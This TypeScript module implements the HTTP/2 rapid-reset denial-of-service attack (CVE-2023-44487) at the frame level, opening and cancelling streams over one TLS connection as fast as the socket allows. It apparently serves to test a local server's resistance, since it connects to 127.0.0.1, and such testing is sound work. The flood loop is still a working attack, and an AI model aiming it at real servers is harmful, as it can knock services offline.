import { connect } from 'node:tls';
import { H2_PREFACE as PREFACE, h2Frame as frame } from './h2-frames.js';

const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
const END_STREAM_AND_HEADERS = 0x1 | 0x4;
const CANCEL = 0x8;

/** GET / for `authority` in HPACK: indexed :method GET, :scheme https, :path /, then :authority as a literal not indexed. */
function requestBlock(authority: string): Buffer {
  const name = Buffer.from(authority, 'latin1');
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, name.length]), name]);
}

export interface RapidResetResult {
  /** Streams opened and reset. */
  readonly streams: number;
  /** The GOAWAY error code the server ended the connection with, if it sent one. */
  readonly goawayCode: number | undefined;
}

/**
 * The rapid-reset attack (CVE-2023-44487) at the frame level: over one TLS connection that
 * negotiated h2, HEADERS for a new stream immediately followed by RST_STREAM (CANCEL), `streams`
 * times, written as fast as the socket takes them. (node:http2's client does not do this: it sends
 * no HEADERS for a stream closed before they went out, and otherwise waits for them to be flushed.)
 * Resolves when the server closed the connection or everything was sent and `settleMs` passed.
 */
export function rapidReset(opts: {
  port: number;
  ca: string;
  servername: string;
  streams: number;
  settleMs?: number;
}): Promise<RapidResetResult> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port: opts.port, ca: opts.ca, servername: opts.servername, ALPNProtocols: ['h2'] });
    let goawayCode: number | undefined;
    let sent = 0;
    let inbound = Buffer.alloc(0);
    let done = false;
    const finish = (): void => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve({ streams: sent, goawayCode });
    };
    socket.on('data', (chunk: Buffer) => {
      inbound = Buffer.concat([inbound, chunk]);
      while (inbound.length >= 9) {
        const length = inbound.readUIntBE(0, 3);
        if (inbound.length < 9 + length) break;
        if (inbound[3] === TYPE.GOAWAY && length >= 8) goawayCode = inbound.readUInt32BE(9 + 4);
        inbound = inbound.subarray(9 + length);
      }
    });
    socket.on('error', finish);
    socket.on('close', finish);
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      const block = requestBlock(opts.servername);
      const rst = Buffer.alloc(4);
      rst.writeUInt32BE(CANCEL);
      const pump = (): void => {
        while (sent < opts.streams && !socket.destroyed) {
          const id = 2 * sent + 1;
          sent += 1;
          const ok = socket.write(
            Buffer.concat([frame(TYPE.HEADERS, END_STREAM_AND_HEADERS, id, block), frame(TYPE.RST_STREAM, 0, id, rst)]),
          );
          if (!ok) return void socket.once('drain', pump);
        }
        setTimeout(finish, opts.settleMs ?? 1000);
      };
      pump();
    });
  });
}
